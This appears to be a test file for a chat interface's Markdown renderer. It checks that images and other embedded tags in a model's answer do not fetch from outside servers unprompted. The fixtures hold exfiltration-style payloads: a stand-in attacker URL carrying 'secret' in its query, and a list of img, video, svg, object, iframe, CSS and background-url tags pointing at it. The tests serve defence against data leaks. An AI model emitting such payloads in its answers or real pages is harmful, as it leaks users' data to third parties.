import { fireEvent, render, screen } from "#testing/dom.ts";
import { expect, test } from "bun:test";
import { sentTo } from "#testing/foreign-frame.ts";
import { Markdown } from "./Markdown.tsx";

const address = "https://evil.example/p.png?q=secret";

/** Finds the addresses in the rendered page from which a browser would load something. */
const asked = () =>
  [...document.querySelectorAll("[src], [srcset], [style*=url], [data], [poster]")].filter(
    (element) => !element.matches('[src^="data:"], iframe[src="/frame.html"]'),
  );

test("P-C1: a picture in a model's answer is not asked for before the reader wants it", async () => {
  render(<Markdown text={`# Done\n\n![cat](${address})`} />);
  const button = await screen.findByRole("button", { name: /cat.*evil\.example/ });
  expect(asked()).toEqual([]);
  expect(document.querySelector("iframe")).toBeNull();

  fireEvent.click(button);
  const frame = await screen.findByTitle("cat");
  expect(await sentTo(frame)).toContain(`src="${address}"`);
  // The picture is loaded by the frame, under the frame's own policy; the page itself still loads
  // nothing.
  expect(asked()).toEqual([]);
});

test("P-C1: no other tag of a model's answer asks another server for anything", async () => {
  const texts = [
    `<picture><source srcset="${address}"><img src="${address}" alt="x"></picture>`,
    `<img srcset="${address}" src="${address}" alt="x">`,
    `<video src="${address}" poster="${address}" autoplay></video><audio src="${address}"></audio>`,
    `<svg><image href="${address}"/></svg><object data="${address}"></object>`,
    `<iframe src="${address}"></iframe><embed src="${address}">`,
    `<link rel="stylesheet" href="${address}"><style>@import "${address}"</style>`,
    `<p style="background:url(${address})">x</p><input type="image" src="${address}">`,
    `<table background="${address}"><tr><td>x</td></tr></table>`,
  ];
  render(<Markdown text={`# Done\n\n${texts.join("\n\n")}`} />);
  await screen.findByRole("heading", { name: "Done" });
  expect(asked()).toEqual([]);
  expect(document.querySelector("link, style, [background], iframe, svg image")).toBeNull();
});

test("P-C1: a press loads that picture, not what the running answer turns it into", async () => {
  const shown = render(<Markdown text="![cat](https://a.example/1.png)" streaming />);
  fireEvent.click(await screen.findByRole("button", { name: /a\.example/ }));
  await screen.findByTitle("cat");
  shown.rerender(<Markdown text="![cat](https://evil.example/1.png)" streaming />);
  expect(await screen.findByRole("button", { name: /evil\.example/ })).toBeTruthy();
  expect(document.querySelector("iframe")).toBeNull();
});

test("pictures that root wrote are shown at once", async () => {
  render(<Markdown text={`![cat](${address})`} pictures="show" />);
  expect(await sentTo(await screen.findByTitle("cat"))).toContain(address);
});
